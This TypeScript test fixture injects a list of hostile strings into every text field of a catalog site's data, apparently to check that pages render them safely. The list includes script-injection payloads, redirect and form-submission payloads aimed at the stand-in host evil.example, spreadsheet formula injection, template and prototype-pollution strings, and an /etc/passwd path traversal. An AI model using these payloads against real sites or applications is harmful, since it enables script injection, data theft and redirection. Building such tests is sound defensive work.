import { z } from 'zod';
import { Coverage, Evidence, PublishedCatalog } from '../../packages/catalog/src/record.ts';
import { readData } from '../../packages/catalog/tools/data.ts';
import { readText } from './catalog-data.ts';

/** Set by what would run; no page has it. */
export const MARK = 'pwned';
const RUN = `globalThis.${MARK}=1`;
/** No page asks it for anything. */
export const ELSEWHERE = 'evil.example';

/** What a text may hold to come to life where it is put, or to break what it is put into. */
export const PAYLOADS = [
  `A </title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  '<script>',
  '<style>',
  '</style><style>*{display:none}</style>',
  '<!--',
  '--><!-- ]]> -->',
  ']]>',
  `</textarea></xmp></noscript><plaintext>`,
  `"'><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}' x='`,
  `<svg onload=${RUN}><foreignObject>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>">`,
  `<base href="//${ELSEWHERE}/"><link rel=stylesheet href="//${ELSEWHERE}/x.css">`,
  `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}/">`,
  `<meta charset="utf-7"><form action="//${ELSEWHERE}/"><input name=q>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x&#62; &amp`,
  `javascript:${RUN}//`,
  `https:javascript:${RUN}`,
  `{{${RUN}}} \${${RUN}} <%= ${RUN} %> {@html ${RUN}}`,
  `\`;${RUN};\``,
  `*/;${RUN};/*`,
  `\\');${RUN};//`,
  '\u202e\u2067\u2066 443\u202a',
  '\0\b\x1b[31m\x1b]0;x\x07\x9b2J\x7f',
  `=cmd|' /C calc'!A0`,
  '+1+cmd|x',
  '-2+3',
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  '\t=1',
  '\r=1\r\n=2',
  '\uff1d1',
  'W'.repeat(2000),
  '\ud800 \udc00',
  '\u2028\u2029\ufeff\ufffe',
  "$& $` $' $1 $<a>",
  '{products} {product} {rules} {count}',
  '__proto__ constructor',
  'import.meta.env.BASE_URL process.env.HOME import.meta.glob("/**")',
  `[x](javascript:${RUN})\n\n## x\n\n- [y](//${ELSEWHERE}/)`,
  '../../../../etc/passwd %2e%2e%2f ..\\..\\',
  'href="/_astro/middleware.css" <a id=flow-t name=q>',
] as const;

/** On these hang links and marks: every second of their texts stays, so that there are some to look at. */
const HALF = new Set(['documents.repository', 'documents.commit', 'corrections.field', 'history.revisions.commit']);

/** Prefixes that are only dangerous where the text begins. */
const FIRST = /^(?:[=+\-@\t\r\uff1d]|javascript:|https:)/;

export type HostileData = ReturnType<typeof hostileData>;

/**
 * The catalog with something hostile in every text of every list. Every text of a field gets some of the payloads, and
 * the texts of a field together all of them. A text that stands in several places is the same in all of them, for some
 * are looked up by others. Ids, numbers and words of a fixed set stay.
 */
export function hostileData() {
  // What people type is this project's own and refers to roles.
  const { synonyms, ...whole } = readData();
  const data = withFewerRules(whole);
  const history = JSON.parse(readText('packages/catalog/data/history.json')) as { documents: unknown };
  const reasons: unknown = JSON.parse(readText('packages/catalog/data/reasons.json'));
  const schemas = { ...PublishedCatalog.shape, evidence: z.array(Evidence), coverage: z.array(Coverage) };

  const texts = new Map<string, Set<string>>();
  const ids = new Set(Object.values(data).flatMap((list) => list.map((each) => ('id' in each ? each.id : each.rule))));
  const collect = (text: string, field: string) => {
    texts.set(field, (texts.get(field) ?? new Set()).add(text));
    return text;
  };
  const all = (say: Say) => ({
    // The files come first, so that their texts are as files can hold them wherever else they stand.
    history: { ...history, documents: byShape(history.documents, 'history', say, ids) },
    reasons: byShape(reasons, 'reasons', say, ids),
    data: {
      ...(Object.fromEntries(
        Object.entries(schemas).map(([name, schema]) => [
          name,
          bySchema(schema, data[name as keyof typeof data], name, say, ids),
        ]),
      ) as typeof data),
      synonyms,
    },
  });
  all(collect);
  const hostile = new Map<string, string>();
  for (const [field, its] of texts) {
    const open = [...its].filter((text, at) => !hostile.has(text) && (at % 2 === 1 || !HALF.has(field)));
    const share = Math.max(1, Math.ceil(PAYLOADS.length / Math.max(1, open.length)));
    open.forEach((text, at) => {
      const own = Array.from({ length: share }, (_, more) => PAYLOADS[(at * share + more) % PAYLOADS.length] ?? '');
      const first = own.filter((each) => FIRST.test(each));
      const others = own.filter((each) => !FIRST.test(each));
      // A product's name ends in its year, by which products are put in order.
      const said = / \d{4}$/.test(text) ? `${own.join(' ')} ${text}` : `${first.join(' ')}${text} ${others.join(' ')}`;
      // A build takes no JSON file with half a character in it, whatever else it holds.
      hostile.set(text, /^(?:history|reasons)\b/.test(field) ? said.toWellFormed() : said);
    });
  }
  return { ...all((text) => hostile.get(text) ?? text), fields: [...texts.keys()] };
}

/**
 * The data with the first rule of each table and those that fill a field, or have a correction, as none before them does;
 * and without what refers to the others. Every page costs time, and those of rules are alike.
 */
function withFewerRules<Data extends FewerRules>(data: Data): Data {
  const corrected = Map.groupBy(data.corrections, ({ rule }) => rule);
  const seen = new Set<string>();
  const others = data.ports.filter((rule) => {
    const own = [
      rule.table,
      ...fieldsIn(rule, rule.kind),
      ...(corrected.get(rule.id) ?? []).map(({ field, evidence }) => `${field} ${evidence}`),
    ];
    const isLikeOthers = own.every((part) => seen.has(part));
    for (const part of own) seen.add(part);
    return isLikeOthers;
  });
  const left = new Set(others.map(({ id }) => id));
  const refers = (value: unknown) => typeof value === 'string' && left.has(value);
  const isLeft = (item: unknown) =>
    refers(item) || (typeof item === 'object' && item !== null && Object.values(item).some(refers));
  const without = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.filter((item) => !isLeft(item)).map(without);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, part]) => [key, without(part)]));
  };
  return without(data) as Data;
}

interface FewerRules {
  readonly ports: readonly { id: string; table: string; kind: string }[];
  readonly corrections: readonly { rule: string; field: string; evidence: string }[];
}

/** The fields of a value that are not empty, by their paths. */
function fieldsIn(value: unknown, path: string): string[] {
  if (Array.isArray(value)) return value.flatMap((part) => fieldsIn(part, path));
  if (typeof value !== 'object' || value === null) return value === null || value === undefined ? [] : [path];
  return Object.entries(value).flatMap(([key, part]) => fieldsIn(part, `${path}.${key}`));
}

type Say = (text: string, field: string) => string;

/** A value with its texts said otherwise, by the schema that it keeps; a kind of schema that is not known is an error. */
function bySchema(schema: z.core.$ZodType, value: unknown, field: string, say: Say, ids: ReadonlySet<string>): unknown {
  const { def } = schema._zod as unknown as { def: Def };
  if (value === null || value === undefined) return value;
  switch (def.type) {
    case 'object':
      return Object.fromEntries(
        Object.entries(value).map(([key, part]) => {
          const inner = def.shape[key];
          if (inner === undefined) throw new Error(`${field}.${key} is in no schema`);
          return [key, bySchema(inner, part, `${field}.${key}`, say, ids)];
        }),
      );
    case 'array':
      return (value as unknown[]).map((part) => bySchema(def.element, part, field, say, ids));
    case 'nullable':
    case 'optional':
      return bySchema(def.innerType, value, field, say, ids);
    case 'string':
      // What refers to a record, by the schema or in a field that may hold either, is no text.
      return /Id$/.test(String(z.globalRegistry.get(schema)?.id)) || ids.has(String(value))
        ? value
        : say(String(value), field);
    case 'enum':
    case 'boolean':
    case 'number':
      return value;
    default:
      throw new Error(`${field} has a kind of schema that is not known here: ${JSON.stringify(def)}`);
  }
}

type Def =
  | { type: 'object'; shape: Readonly<Record<string, z.core.$ZodType>> }
  | { type: 'array'; element: z.core.$ZodType }
  | { type: 'nullable' | 'optional'; innerType: z.core.$ZodType }
  | { type: 'string' | 'enum' | 'boolean' | 'number' };

/** The same of data that has no schema: all of its texts but ids. */
function byShape(value: unknown, field: string, say: Say, ids: ReadonlySet<string>): unknown {
  if (Array.isArray(value)) return value.map((part) => byShape(part, field, say, ids));
  if (typeof value === 'object' && value !== null) {
    return Object.fromEntries(
      Object.entries(value).map(([key, part]) => [
        key,
        key === 'id' ? part : byShape(part, `${field}.${key}`, say, ids),
      ]),
    );
  }
  return typeof value === 'string' && !ids.has(value) ? say(value, field) : value;
}
